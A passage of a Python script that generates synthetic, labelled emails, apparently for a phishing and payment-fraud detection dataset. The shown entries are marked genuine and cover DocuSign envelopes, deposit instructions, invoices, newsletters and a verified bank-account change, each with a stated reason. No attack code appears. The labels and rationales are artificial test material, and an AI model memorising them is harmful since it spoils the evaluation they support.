<p style="font-size:11px;color:#605e5c">This invitation email is from Meridian Estates Ltd (meridianestates.onmicrosoft.com) and may include advertising content.<br>Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p></td></tr></table></body></html>
""" % (h(s, "t1", n=8) + "-" + h(s, "t2", n=4) + "-" + h(s, "t3", n=4) + "-" + h(s, "t4", n=4) + "-" + h(s, "t5", n=12), h(s, "tk", n=44),
       h(s, "t1", n=8) + "-" + h(s, "t2", n=4) + "-" + h(s, "t3", n=4) + "-" + h(s, "t4", n=4) + "-" + h(s, "t5", n=12)), "html", cs="utf-8", cte="quoted-printable")]),
    relay=["Received: from DB8P191MB0826.EURP191.PROD.OUTLOOK.COM (2603:10a6:10:3b1::14)\n\tby DB8P191MB0826.EURP191.PROD.OUTLOOK.COM with Microsoft SMTP Server\n\t(version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.8722.24; {DATE}"])

# ---------------------------------------------------------------- B10
s = "10-en-docusign-completion-undertaking"
msg(B, s, "en", "UTF-8 / QP, multipart/alternative", "GENUINE DocuSign envelope from the counterparty solicitors (real docusign.net infrastructure)",
    "Sender dse@eumail.docusign.net on DocuSign's EU mail servers; envelope from the genuine counterparty domain harwoodlane.co.uk; link to eu.docusign.net; expected document in a live matter.",
    "sarah.collins@example.com", "2026-11-23 14:05:51", "UTC",
    ("mailfr.eumail.docusign.net", "mailfr.eumail.docusign.net", "185.37.125.20"), "bounces@eumail.docusign.net",
    [("From", addr("Emma Price via Docusign", "dse@eumail.docusign.net")),
     ("Reply-To", addr("Emma Price", "emma.price@harwoodlane.co.uk")),
     ("To", addr("Sarah Collins", "sarah.collins@example.com")),
     ("Subject", "Please DocuSign: 14 Elm Grove - Completion undertakings.pdf"),
     ("Date", "{DATE}"), ("Message-ID", "<%s@mailfr.eumail.docusign.net>" % h(s, "m", n=32)),
     ("X-Api-Host", "eu.docusign.net"), ("X-MailJobId", h(s, "job", n=8) + "-" + h(s, "j2", n=4) + "-" + h(s, "j3", n=4)),
     ("MIME-Version", "1.0")],
    Multi("alternative", [
        Text("""Emma Price sent you a document to review and sign.

REVIEW DOCUMENT: https://eu.docusign.net/Signing/EmailStart.aspx?a=%s&etti=24&acct=%s&er=%s

Emma Price
emma.price@harwoodlane.co.uk

Sarah, please find the completion undertakings for 14 Elm Grove for signature as agreed. Kind regards, Emma

Do Not Share This Email
This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.

About Docusign: Sign documents electronically in just minutes. It's safe, secure, and legally binding.
""" % (h(s, "a", n=8) + "-" + h(s, "a2", n=4) + "-" + h(s, "a3", n=4) + "-" + h(s, "a4", n=4) + "-" + h(s, "a5", n=12),
       h(s, "ac", n=8) + "-" + h(s, "ac2", n=4) + "-" + h(s, "ac3", n=4) + "-" + h(s, "ac4", n=4) + "-" + h(s, "ac5", n=12),
       h(s, "er", n=8) + "-" + h(s, "er2", n=4) + "-" + h(s, "er3", n=4) + "-" + h(s, "er4", n=4) + "-" + h(s, "er5", n=12)),
             cs="utf-8", cte="quoted-printable"),
        Text("""<html><body style="background:#eaeaea;font-family:Helvetica,Arial"><table width="560" align="center" style="background:#fff"><tr><td style="background:#1e1e1e;padding:18px;color:#fff">
<p style="font-size:16px;margin:0">Emma Price sent you a document to review and sign.</p>
<p><a href="https://eu.docusign.net/Signing/EmailStart.aspx?a=%s&amp;etti=24&amp;acct=%s" style="background:#ffc820;color:#000;padding:10px 20px;text-decoration:none;font-weight:bold">REVIEW DOCUMENT</a></p></td></tr>
<tr><td style="padding:24px"><p><b>Emma Price</b><br><a href="mailto:emma.price@harwoodlane.co.uk">emma.price@harwoodlane.co.uk</a></p>
<p>Sarah, please find the completion undertakings for 14 Elm Grove for signature as agreed. Kind regards, Emma</p>
<p style="font-size:11px;color:#666"><b>Do Not Share This Email</b><br>This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.</p></td></tr></table></body></html>
""" % (h(s, "a", n=8) + "-" + h(s, "a2", n=4) + "-" + h(s, "a3", n=4) + "-" + h(s, "a4", n=4) + "-" + h(s, "a5", n=12),
       h(s, "ac", n=8) + "-" + h(s, "ac2", n=4) + "-" + h(s, "ac3", n=4) + "-" + h(s, "ac4", n=4) + "-" + h(s, "ac5", n=12)), "html", cs="utf-8", cte="quoted-printable")]))

# ---------------------------------------------------------------- B11
s = "11-en-client-urgent-deposit-release"
mx, rel = o365(s, "01-DB5|db5eur01on2104", "40.107.15.104", pfx="AS8PR02MB")
msg(B, s, "en", "UTF-8 / QP", "GENUINE urgent client instruction to release the exchange deposit from client account today",
    "Known client contact from the client's own tenant; refers to payee details already verified by phone and held on file, not to new details; confirms a call with the fee earner; consistent with the matter timeline.",
    "james.whitfield@example.com", "2026-12-03 10:41:09", "GMT", mx, "tom.ashworth@meridian-estates.co.uk",
    [("From", addr("Tom Ashworth", "tom.ashworth@meridian-estates.co.uk")),
     ("To", addr("James Whitfield", "james.whitfield@example.com")), ("Cc", "sarah.collins@example.com, rebecca.lang@meridian-estates.co.uk"),
     ("Subject", "URGENT - Unit 4 Westferry Road: exchange today, please release 10% deposit"),
     ("Date", "{DATE}"), ("Message-ID", mid_ol(s, "AS8PR02MB")), ("Content-Language", "en-GB"), ("MIME-Version", "1.0")],
    Text("""James,

Following this morning's call: the seller's side has confirmed they can exchange today, so please release the 10%% deposit of GBP 185,000.00 from our client account funds before 3pm.

For the avoidance of doubt, please use the seller's solicitors' account details in the completion information form we received on 19 November, which Sarah verified by phone with their office on 20 November - nothing has changed on that front and we have not received any new details.

I'm at my desk all day on 020 7712 4480 if anything needs a wet signature or a quick word.

Many thanks,
Tom

Tom Ashworth
Finance Director | Meridian Estates Ltd
""", cs="utf-8", cte="quoted-printable"), relay=rel)

# ---------------------------------------------------------------- B12
s = "12-en-newsletter-law-society-gazette"
msg(B, s, "en", "UTF-8 / QP, multipart/alternative", "Subscribed daily newsletter (Law Society Gazette) through an ESP",
    "Legitimate bulk mail to a subscriber: ESP infrastructure (dotdigital), List-Unsubscribe, links on the publisher's tracking domain, pure news content.",
    "sarah.collins@example.com", "2026-11-19 06:02:44", "GMT",
    ("r1-mta.dmtrk.net", "r1-mta.dmtrk.net", "185.77.38.11"), "bounce-%s@bounce.lawgazette.co.uk" % hnum(s, "b", n=9),
    [("From", addr("Law Society Gazette", "newsletters@lawgazette.co.uk")),
     ("To", "sarah.collins@example.com"),
     ("Subject", "Gazette Daily: SRA consults on client money rules | Conveyancing fraud warning | Costs"),
     ("Date", "{DATE}"), ("Message-ID", "<%s.%s@r1.dmtrk.net>" % (hnum(s, "m", n=10), h(s, "x", n=14))),
     ("List-Unsubscribe", "<https://r1.dmtrk.net/unsub/%s>" % h(s, "u", n=24)),
     ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"), ("Precedence", "bulk"), ("MIME-Version", "1.0")],
    Multi("alternative", [
        Text("""GAZETTE DAILY - 19 November 2026

SRA consults on tighter client money rules
The regulator wants firms to justify holding client money outside of a live transaction.
https://r1.dmtrk.net/c/%s

Conveyancers warned of rise in completion-day payment fraud
Firms are urged to verify bank details by phone using independently sourced numbers.
https://r1.dmtrk.net/c/%s

Costs: Court of Appeal clarifies fixed recoverable costs in intermediate track
https://r1.dmtrk.net/c/%s

You are receiving this email because you subscribed to Gazette Daily. Unsubscribe: https://r1.dmtrk.net/unsub/%s
The Law Society, 113 Chancery Lane, London WC2A 1PL
""" % (h(s, 1, n=22), h(s, 2, n=22), h(s, 3, n=22), h(s, "u", n=24)), cs="utf-8", cte="quoted-printable"),
        Text("""<html><body style="margin:0;font-family:Arial"><table width="600" align="center"><tr><td style="background:#00205b;color:#fff;padding:14px;font-size:20px">Gazette Daily <span style="font-size:12px">19 November 2026</span></td></tr>
<tr><td style="padding:16px"><h3><a href="https://r1.dmtrk.net/c/%s">SRA consults on tighter client money rules</a></h3><p>The regulator wants firms to justify holding client money outside of a live transaction.</p>
<h3><a href="https://r1.dmtrk.net/c/%s">Conveyancers warned of rise in completion-day payment fraud</a></h3><p>Firms are urged to verify bank details by phone using independently sourced numbers.</p>
<h3><a href="https://r1.dmtrk.net/c/%s">Costs: Court of Appeal clarifies fixed recoverable costs in intermediate track</a></h3>
<p style="font-size:11px;color:#777">You are receiving this email because you subscribed to Gazette Daily. <a href="https://r1.dmtrk.net/unsub/%s">Unsubscribe</a><br>The Law Society, 113 Chancery Lane, London WC2A 1PL</p></td></tr></table></body></html>
""" % (h(s, 1, n=22), h(s, 2, n=22), h(s, 3, n=22), h(s, "u", n=24)), "html", cs="utf-8", cte="quoted-printable")]))

# ---------------------------------------------------------------- B13
s = "13-en-expert-witness-invoice"
mx, rel = gmail(s, "oliver.hughes@example.com", "wr1-f53", "209.85.221.53")
msg(B, s, "en", "UTF-8 / QP, multipart/mixed (gmail) + PDF", "GENUINE expert-witness invoice with bank details (Google Workspace sender)",
    "Known expert on her firm's own domain (hosted on Google Workspace); invoice references the engagement letter and the same Barclays account as before; 30-day terms.",
    "oliver.hughes@example.com", "2026-11-30 16:20:31", "GMT", mx, "helen.marsh@marshforensic.co.uk",
    [("From", addr("Dr Helen Marsh", "helen.marsh@marshforensic.co.uk")),
     ("To", "oliver.hughes@example.com"), ("Cc", "sarah.collins@example.com"),
     ("Subject", "Invoice MFA-2026-118 - Thornbury v Meridian - expert report"),
     ("Date", "{DATE}"), ("Message-ID", mid_gmail(s)), ("MIME-Version", "1.0")],
    Multi("mixed", [
        Text("""Dear Oliver,

Please find attached my invoice MFA-2026-118 for the supplemental expert report in Thornbury Holdings Ltd v Meridian Estates Ltd (BL-2026-000918), in line with the engagement letter of 2 September.

Amount: GBP 9,840.00 (incl. VAT). Payment terms 30 days, to the Barclays account shown on the invoice (unchanged from my previous invoices).

Do let me know if you need the time breakdown in a different format for the costs budget.

Kind regards,
Helen

Dr Helen Marsh FCA
Marsh Forensic Accounting Ltd
""", cs="UTF-8", cte="quoted-printable"),
        Att(pdf(["Marsh Forensic Accounting Ltd - Invoice MFA-2026-118", "Client: Example Group LLP (London)",
                 "Matter: Thornbury v Meridian BL-2026-000918 - supplemental report", "Fees GBP 8,200.00  VAT GBP 1,640.00  Total GBP 9,840.00",
                 "Barclays  Sort 20-32-14  Acc 53718402  IBAN " + fmt_iban(IB["gb_marsh"]), "[PLACEHOLDER - business sample]"], "MFA-2026-118"),
            "application/pdf", "MFA-2026-118.pdf")], extra="gmail"), relay=rel)

# ---------------------------------------------------------------- B14
s = "14-en-internal-it-password-mfa-notice"
msg(B, s, "en", "UTF-8 / QP, multipart/alternative", "GENUINE internal IT announcement about password expiry and MFA re-registration (all-staff)",
    "Sent by the Head of IT through the internal relay; links only to the company's own sso.example.com; explicitly tells staff IT never sends QR codes or log-in links from external domains. Content resembles phishing but is genuine.",
    "oliver.hughes@example.com", "2026-11-20 09:00:12", "CET", INTERNAL, "jan.richter@example.com",
    [("From", addr("Richter, Jan", "jan.richter@example.com")),
     ("To", "all-staff@example.com"),
     ("Subject", "[IT] Password expiry and MFA re-registration window 23-27 November"),
     ("Date", "{DATE}"), ("Message-ID", "<%s@FRA-EXCH02.corp.example.com>" % h(s, "x", n=32).upper()),
     ("X-Mailer", "Microsoft Outlook 16.0"), ("MIME-Version", "1.0")],
    Multi("alternative", [
        Text("""Dear colleagues,

as announced at the partners' meeting, we are moving all accounts to phishing-resistant sign-in (passkeys/FIDO2) before year end.

What you need to do between 23 and 27 November:
1. Sign in at https://sso.example.com/setup from a company device in the office or via VPN.
2. Register the passkey on your company phone (Authenticator app) when prompted.
3. Your password will expire on 30 November; please set a new one at https://sso.example.com/password.

Please note: IT will never send you QR codes, attachments or sign-in links from any domain other than example.com, and we will never ask for your password or a code by e-mail or phone. If something looks odd, forward it to phishing@example.com.

Questions: IT helpdesk, extension 400 (Frankfurt) or +49 69 7410 9400 from other offices.

Best regards
Jan Richter
Head of IT
""", cs="utf-8", cte="quoted-printable"),
        Text("""<html><body style="font-family:Calibri,sans-serif;font-size:11pt"><p>Dear colleagues,</p>
<p>as announced at the partners' meeting, we are moving all accounts to phishing-resistant sign-in (passkeys/FIDO2) before year end.</p>
<p><b>What you need to do between 23 and 27 November:</b></p><ol><li>Sign in at <a href="https://sso.example.com/setup">https://sso.example.com/setup</a> from a company device in the office or via VPN.</li>
<li>Register the passkey on your company phone (Authenticator app) when prompted.</li><li>Your password will expire on 30 November; please set a new one at <a href="https://sso.example.com/password">https://sso.example.com/password</a>.</li></ol>
<p><b>Please note:</b> IT will never send you QR codes, attachments or sign-in links from any domain other than example.com, and we will never ask for your password or a code by e-mail or phone. If something looks odd, forward it to phishing@example.com.</p>
<p>Questions: IT helpdesk, extension 400 (Frankfurt) or +49 69 7410 9400 from other offices.</p><p>Best regards<br>Jan Richter<br>Head of IT</p></body></html>
""", "html", cs="utf-8", cte="quoted-printable")]),
    relay=internal_rel(s, "10.20.14.88", "FRA-NB-0388"), delay=3)

# ---------------------------------------------------------------- B15
s = "15-en-chambers-fee-note-reminder"
msg(B, s, "en", "ISO-8859-1 / QP", "GENUINE overdue fee-note reminder from barristers' clerks (Mimecast-protected sender)",
    "Known chambers domain sending through its Mimecast gateway; chases an existing fee note; bank details are the chambers' long-standing NatWest account; firm tone but no change of details.",
    "oliver.hughes@example.com", "2026-12-04 11:47:26", "GMT",
    ("eu-smtp-delivery-151.mimecast.com", "eu-smtp-delivery-151.mimecast.com", "185.58.85.151"), "clerks@4kingsway.co.uk",
    [("From", addr("4 Kingsway Chambers - Fees Clerk", "clerks@4kingsway.co.uk")),
     ("To", "oliver.hughes@example.com"), ("Cc", "james.whitfield@example.com"),
     ("Subject", "Overdue fee note 26/0719 - Thornbury v Meridian - Counsel: A. Mortimer KC"),
     ("Date", "{DATE}"), ("Message-ID", "<LO2P265MB%s%s@LO2P265MB%s.GBRP265.PROD.OUTLOOK.COM>" % (hnum(s, "a", n=4), h(s, "m", n=20).upper(), hnum(s, "a", n=4))),
     ("X-MC-Unique", "%s-%s" % (b32tok(s, "mc", n=22), hnum(s, "m2", n=1))), ("MIME-Version", "1.0")],
    Text("""Dear Oliver,

I hope you are well. Our records show that fee note 26/0719 (Andrew Mortimer KC - advice on evidence and conference, Thornbury Holdings Ltd v Meridian Estates Ltd) dated 30 September for £6,000.00 plus VAT remains outstanding and is now over 60 days.

I would be grateful if you could let me know when we can expect payment, or whether anything is holding it up on your side. Payment details are as on the fee note (NatWest, sort code 60-04-06, account 28150937, ref. 26/0719).

Kind regards,

Daniel Reeves
Senior Fees Clerk
4 Kingsway Chambers, London WC2B 6XF
""", cs="iso-8859-1", cte="quoted-printable"),
    relay=["Received: from LO2P265MB%s.GBRP265.PROD.OUTLOOK.COM by eu-smtp-inbound (relay) with ESMTPS\n\t(version=TLSv1.3, cipher=TLS_AES_256_GCM_SHA384) id uk-mta-41-%s; {DATE}" % (hnum(s, "a", n=4), b32tok(s, "mc2", n=22))])
# ---------------------------------------------------------------- B16
s = "16-it-ferretti-fattura-copia-cortesia"
mx, rel = o365(s, "03-VI1|vi1eur03on2119", "40.107.103.119", pfx="PAXPR03MB")
msg(B, s, "it", "ISO-8859-15 / QP + PDF", "Regular supplier invoice: courtesy copy of an e-invoice already sent via SdI",
    "Genuine supplier domain ferretti-trasporti.it on its usual Microsoft 365 tenant; courtesy copy refers to the SdI e-invoice; bank details unchanged (Banco BPM).",
    "giulia.ricci@example.com", "2026-11-02 09:12:48", "CET", mx, "amministrazione@ferretti-trasporti.it",
    [("From", addr("Ferretti Trasporti S.p.A. - Amministrazione", "amministrazione@ferretti-trasporti.it")),
     ("To", "giulia.ricci@example.com"),
     ("Subject", "Copia di cortesia fattura n. 2026/FT/1184 del 31/10/2026"),
     ("Date", "{DATE}"), ("Message-ID", mid_ol(s, "PAXPR03MB")), ("Content-Language", "it-IT"), ("MIME-Version", "1.0")],
    Multi("mixed", [
        Text("""Spett.le Example Group - Sede di Milano,

in allegato trasmettiamo copia di cortesia della fattura n. 2026/FT/1184 del 31/10/2026, relativa ai servizi di archiviazione documentale e ritiro/consegna plichi del mese di ottobre. L'originale è stato trasmesso tramite Sistema di Interscambio (codice destinatario M5UXCR1).

Imponibile: ¤ 2.180,00
IVA 22%%: ¤ 479,60
Totale documento: ¤ 2.659,60
Scadenza: 30/11/2026 - bonifico bancario su IBAN %s (Banco BPM)

Cordiali saluti

Ufficio Amministrazione
Ferretti Trasporti S.p.A.
Via Cassanese 210 - 20054 Segrate (MI) - P.IVA 08841230158
""".replace("¤", "€") % fmt_iban(IB["ferretti"]), cs="iso-8859-15", cte="quoted-printable"),
        Att(pdf(["Ferretti Trasporti S.p.A. - Via Cassanese 210 - 20054 Segrate (MI)", "",
                 "FATTURA n. 2026/FT/1184 del 31/10/2026 - copia di cortesia", "Archiviazione documentale ottobre 2026",
                 "Totale EUR 2.659,60 - scadenza 30/11/2026", "IBAN " + fmt_iban(IB["ferretti"]), "[PLACEHOLDER - business sample]"],
                "2026-FT-1184"), "application/pdf", "Fattura_2026_FT_1184.pdf")]), relay=rel)

# ---------------------------------------------------------------- B17
s = "17-it-ferretti-sollecito-pagamento"
mx, rel = o365(s, "03-AM6|am6eur03on2127", "40.107.104.127", pfx="PAXPR03MB")
msg(B, s, "it", "UTF-8 / base64", "GENUINE polite payment reminder from the supplier (account unchanged)",
    "Known contact on the genuine domain and tenant; refers to an overdue invoice; explicitly confirms the usual IBAN and offers to resend the invoice - no change of details.",
    "giulia.ricci@example.com", "2026-11-25 15:33:10", "CET", mx, "c.colombo@ferretti-trasporti.it",
    [("From", addr("Chiara Colombo", "c.colombo@ferretti-trasporti.it")),
     ("To", addr("Giulia Ricci", "giulia.ricci@example.com")),
     ("Subject", "Sollecito fattura 2026/FT/1098 scaduta il 30/09"),
     ("Date", "{DATE}"), ("Message-ID", mid_ol(s, "PAXPR03MB")), ("Content-Language", "it-IT"), ("MIME-Version", "1.0")],
    Text("""Gentile Giulia,

da un controllo del nostro scadenziario risulta ancora aperta la fattura n. 2026/FT/1098 del 31/08/2026 (€ 2.596,16), scaduta il 30/09/2026.

Ti chiederei cortesemente di verificare se il pagamento è già stato disposto; in caso contrario ti sarei grata se potessi provvedere entro fine mese sul consueto conto Banco BPM (IBAN %s, invariato).

Se ti serve una nuova copia della fattura o dell'XML dal SdI, fammelo sapere e te la invio subito.

Grazie e buona giornata,

Chiara Colombo
Ufficio Amministrazione
Ferretti Trasporti S.p.A.
Tel. 02 2164 7730
""" % fmt_iban(IB["ferretti"]), cs="utf-8", cte="base64"), relay=rel)

# ---------------------------------------------------------------- B18
s = "18-it-ordine-avvocati-formazione-newsletter"
msg(B, s, "it", "ISO-8859-1 / QP, multipart/alternative", "GENUINE Bar Association (Ordine degli Avvocati di Milano) bulletin on CPD events",
    "Real Order domain ordineavvocatimilano.it via its Italian ESP (MailUp); informational bulletin, links to its own site; no payments or credentials requested.",
    "francesca.romano@example.com", "2026-11-13 12:00:05", "CET",
    ("smtp-out-71.mailupnet.it", "smtp-out-71.mailupnet.it", "212.183.154.71"), "bounce-%s@mailupnet.it" % hnum(s, "b", n=9),
    [("From", addr("Ordine degli Avvocati di Milano", "comunicazioni@ordineavvocatimilano.it")),
     ("To", "francesca.romano@example.com"),
     ("Subject", ew("Informativa n. 41/2026 – Formazione continua: eventi di dicembre e scadenza triennio", "iso-8859-1", "Q").replace("–", "-") if False else ew("Informativa n. 41/2026 - Formazione continua: eventi di dicembre e scadenza triennio", "iso-8859-1", "Q")),
     ("Date", "{DATE}"), ("Message-ID", "<%s.%s@mailupnet.it>" % (hnum(s, "m", n=10), h(s, "x", n=10))),
     ("List-Unsubscribe", "<https://ordineavvocatimilano.musvc2.net/e/u?q=%s>" % h(s, "u", n=20)),
     ("Precedence", "bulk"), ("MIME-Version", "1.0")],
    Multi("alternative", [
        Text("""ORDINE DEGLI AVVOCATI DI MILANO
Informativa n. 41/2026

Formazione continua - eventi di dicembre
- 2 dicembre, Aula Magna del Palazzo di Giustizia: "La riforma del processo civile a tre anni dall'entrata in vigore" (3 crediti)
- 10 dicembre, webinar: "Deontologia e comunicazione digitale dell'avvocato" (2 crediti deontologici)

Si ricorda che il 31 dicembre 2026 si chiude il triennio formativo 2024-2026. L'autocertificazione dei crediti dovrà essere presentata tramite la piattaforma Riconosco entro il 28 febbraio 2027.

Programma e iscrizioni: https://www.ordineavvocatimilano.it/formazione

La Segreteria
""", cs="iso-8859-1", cte="quoted-printable"),
        Text("""<html><body style="font-family:Georgia,serif;font-size:15px"><div style="max-width:600px;margin:auto">
<p style="color:#7a0019;font-size:18px;border-bottom:2px solid #7a0019">ORDINE DEGLI AVVOCATI DI MILANO<br><span style="font-size:13px">Informativa n. 41/2026</span></p>
<h3>Formazione continua - eventi di dicembre</h3>
<ul><li>2 dicembre, Aula Magna del Palazzo di Giustizia: <i>La riforma del processo civile a tre anni dall'entrata in vigore</i> (3 crediti)</li>
<li>10 dicembre, webinar: <i>Deontologia e comunicazione digitale dell'avvocato</i> (2 crediti deontologici)</li></ul>
<p>Si ricorda che il 31 dicembre 2026 si chiude il triennio formativo 2024-2026. L'autocertificazione dei crediti dovrà essere presentata tramite la piattaforma Riconosco entro il 28 febbraio 2027.</p>
<p><a href="https://www.ordineavvocatimilano.it/formazione">Programma e iscrizioni</a></p><p>La Segreteria</p></div></body></html>
""", "html", cs="iso-8859-1", cte="quoted-printable")]))

# ---------------------------------------------------------------- B19
s = "19-it-notaio-bozza-atto-provvista"
msg(B, s, "it", "ISO-8859-1 / QP + PDF", "GENUINE notary's office sends draft deed and requests the funds deposit (provvista) - with IBAN",
    "Known notary domain notaiogalli.it via the notary's usual provider; the IBAN matches the one in the engagement letter; invites telephone confirmation of bank details; expected step in the matter.",
    "francesca.romano@example.com", "2026-11-16 17:08:55", "CET",
    ("smtp.notaiogalli.it", "mail.notaiogalli.it", "93.62.171.38"), "studio@notaiogalli.it",
    [("From", addr("Studio Notarile Galli", "studio@notaiogalli.it")),
     ("To", addr("Avv. Francesca Romano", "francesca.romano@example.com")),
     ("Subject", "Bozza atto di compravendita - Ferretti Trasporti / Immobiliare Lambro - stipula 25/11"),
     ("Date", "{DATE}"), ("Message-ID", mid_uuid(s, "notaiogalli.it")), ("X-Mailer", "Microsoft Outlook 16.0"), ("MIME-Version", "1.0")],
    Multi("mixed", [
        Text("""Gentile Avvocato,

come d'accordo Le trasmetto in allegato la bozza dell'atto di compravendita del capannone di Segrate (Ferretti Trasporti S.p.A. / Immobiliare Lambro S.r.l.), fissato per mercoledì 25 novembre alle ore 11:00 presso lo Studio.

Per la stipula è necessaria la provvista per imposte e onorari, pari a euro 41.870,00, da versare entro il 23 novembre sul conto dello Studio indicato nella lettera d'incarico:
UniCredit S.p.A. - IBAN %s

Come di consueto, per qualsiasi dubbio sulle coordinate bancarie può chiamare direttamente lo Studio al numero 02 7600 4411.

Cordiali saluti

Dott.ssa Paola Ferri
Studio Notarile Marco Galli
Via Sant'Andrea 8 - 20121 Milano
""" % fmt_iban(IB["galli"]), cs="iso-8859-1", cte="quoted-printable"),
        Att(pdf(["Studio Notarile Marco Galli - Milano", "", "BOZZA - Atto di compravendita", "Venditore: Immobiliare Lambro S.r.l.",
                 "Acquirente: Ferretti Trasporti S.p.A.", "Immobile: capannone in Segrate (MI)", "[PLACEHOLDER - business sample]"],
                "Bozza atto"), "application/pdf", "Bozza_atto_Ferretti_Lambro.pdf")]))

# ---------------------------------------------------------------- B20
s = "20-it-collega-gmail-memoria"
mx, rel = gmail(s, "francesca.romano@example.com", "ej1-f45", "209.85.218.45")
msg(B, s, "it", "UTF-8 / QP, multipart/mixed (gmail) + PDF", "GENUINE colleague writing from his private Gmail (laptop cannot connect at court) with draft brief",
    "Free mailer with a colleague's name, but content is purely work-internal (draft brief on an existing case, hearing details), no payment/credential/data request; the PDF is a draft document.",
    "francesca.romano@example.com", "2026-11-26 12:47:19", "CET", mx, "luca.bianchi.avv@gmail.com",
    [("From", addr("Luca Bianchi", "luca.bianchi.avv@gmail.com")),
     ("To", "francesca.romano@example.com"),
     ("Subject", "Memoria 171-ter - bozza (scrivo dalla mail personale)"),
     ("Date", "{DATE}"), ("Message-ID", mid_gmail(s)), ("MIME-Version", "1.0")],
    Multi("mixed", [
        Multi("alternative", [
            Text("""Ciao Francesca,

sono ancora in Tribunale, il portatile non riesce a collegarsi alla VPN con il wifi dell'aula avvocati, quindi ti scrivo dalla mail personale.

Ti allego la bozza della memoria ex art. 171-ter per la causa Ferretti c. Logimar (RG 9921/2025) con le tue correzioni di ieri integrate. Mancano solo i riferimenti ai documenti 14-16, che inserisco appena rientro in studio verso le 16.

Il deposito telematico lo faccio io dallo studio entro stasera.

A dopo,
Luca
""", cs="UTF-8", cte="quoted-printable"),
            Text("""<div dir="ltr">Ciao Francesca,<br><br>sono ancora in Tribunale, il portatile non riesce a collegarsi alla VPN con il wifi dell'aula avvocati, quindi ti scrivo dalla mail personale.<br><br>Ti allego la bozza della memoria ex art. 171-ter per la causa Ferretti c. Logimar (RG 9921/2025) con le tue correzioni di ieri integrate. Mancano solo i riferimenti ai documenti 14-16, che inserisco appena rientro in studio verso le 16.<br><br>Il deposito telematico lo faccio io dallo studio entro stasera.<br><br>A dopo,<br>Luca</div>
""", "html", cs="UTF-8", cte="quoted-printable")], extra="gmail"),
        Att(pdf(["Tribunale di Milano - RG 9921/2025", "Ferretti Trasporti S.p.A. c. Logimar S.r.l.",
                 "MEMORIA ex art. 171-ter c.p.c. - BOZZA", "[PLACEHOLDER - business sample]"], "Bozza memoria"),
            "application/pdf", "Memoria_171ter_Ferretti_Logimar_bozza_v3.pdf")], extra="gmail"), relay=rel)
# ---------------------------------------------------------------- B21
s = "21-pl-partner-logistik-faktura-ksef"
mx, rel = gmail(s, "katarzyna.kowalczyk@examplegroup.eu", "lf1-f51", "209.85.167.51")
msg(B, s, "pl", "ISO-8859-2 / QP + PDF", "Regular supplier invoice (visualisation of a KSeF e-invoice) from the supplier's accounting mailbox",
    "Genuine domain partner-logistik.pl on its usual Google Workspace; refers to the KSeF number of an invoice actually issued in KSeF; usual mBank account (on the VAT white list).",
    "katarzyna.kowalczyk@examplegroup.eu", "2026-11-03 10:26:40", "CET", mx, "ksiegowosc@partner-logistik.pl",
    [("From", addr("Partner Logistik - Księgowość", "ksiegowosc@partner-logistik.pl", "iso-8859-2", "Q")),
     ("To", "katarzyna.kowalczyk@examplegroup.eu"),
     ("Subject", ew("Faktura FV/2026/10/0342 - wizualizacja (KSeF)", "iso-8859-2", "Q")),
     ("Date", "{DATE}"), ("Message-ID", mid_gmail(s)), ("MIME-Version", "1.0")],
    Multi("mixed", [
        Text("""Dzień dobry,

w załączeniu przesyłamy wizualizację faktury FV/2026/10/0342 z dnia 31.10.2026 r. za usługi archiwizacji i transportu dokumentów w październiku. Faktura została wystawiona w KSeF pod numerem 5213448120-20261031-2B7D90E41C56-A1.

Kwota brutto: 18 450,00 zł
Termin płatności: 30.11.2026 r.
Rachunek: mBank S.A. %s

Z poważaniem
Dział Księgowości
Partner Logistik sp. z o.o.
ul. Annopol 4A, 03-236 Warszawa, NIP 5213448120
""" % fmt_iban(IB["pl_old"]), cs="iso-8859-2", cte="quoted-printable"),
        Att(pdf(["Partner Logistik sp. z o.o. - ul. Annopol 4A - 03-236 Warszawa", "",
                 "Faktura FV/2026/10/0342 z dnia 31.10.2026 (wizualizacja KSeF)", "Nr KSeF 5213448120-20261031-2B7D90E41C56-A1",
                 "Brutto 18 450,00 PLN - termin 30.11.2026", "mBank " + fmt_iban(IB["pl_old"]), "[PLACEHOLDER - business sample]"],
                "FV-2026-10-0342"), "application/pdf", "FV_2026_10_0342.pdf")], extra="gmail"), relay=rel)

# ---------------------------------------------------------------- B22
s = "22-pl-partner-logistik-zmiana-rachunku-prawdziwa"
mx, rel = gmail(s, "katarzyna.kowalczyk@examplegroup.eu", "wm1-f41", "209.85.128.41")
msg(B, s, "pl", "windows-1250 / QP + PDF", "GENUINE supplier bank-account change (future effective date, white list, asks for phone confirmation)",
    "Known CFO on the genuine domain and usual Google Workspace; change from 1 Jan 2027, current invoices stay on the old account; new account already on the VAT white list; explicitly asks to confirm by phone via the known number before updating.",
    "katarzyna.kowalczyk@examplegroup.eu", "2026-12-02 09:15:27", "CET", mx, "t.zielinski@partner-logistik.pl",
    [("From", addr("Tadeusz Zieliński", "t.zielinski@partner-logistik.pl", "windows-1250", "Q")),
     ("To", addr("Katarzyna Kowalczyk", "katarzyna.kowalczyk@examplegroup.eu")), ("Cc", "ksiegowosc@partner-logistik.pl"),
     ("Subject", ew("Informacja o zmianie rachunku bankowego od 1 stycznia 2027 r.", "windows-1250", "Q")),
     ("Date", "{DATE}"), ("Message-ID", mid_gmail(s)), ("MIME-Version", "1.0")],
    Multi("mixed", [
        Text("""Szanowna Pani Katarzyno,

uprzejmie informuję, że od 1 stycznia 2027 r. zmieniamy bank prowadzący rachunek rozliczeniowy spółki. Nowy rachunek:

Bank Pekao S.A.
%s

Rachunek jest już widoczny w wykazie podatników VAT („biała lista”) – prosimy o sprawdzenie przed zmianą danych w systemie. Faktury wystawione do 31 grudnia 2026 r. prosimy regulować jak dotychczas na rachunek w mBanku.

Zgodnie z naszą procedurą prosimy o telefoniczne potwierdzenie zmiany pod znanym Państwu numerem centrali 22 614 20 80 – najlepiej z p. Anną Wróbel z księgowości. Oryginał pisma z podpisami Zarządu wysłaliśmy pocztą.

Z wyrazami szacunku
Tadeusz Zieliński
Dyrektor Finansowy
Partner Logistik sp. z o.o.
""" % fmt_iban(IB["pl_new"]), cs="windows-1250", cte="quoted-printable"),
        Att(pdf(["Partner Logistik sp. z o.o. - Warszawa, 01.12.2026", "", "Informacja o zmianie rachunku bankowego",
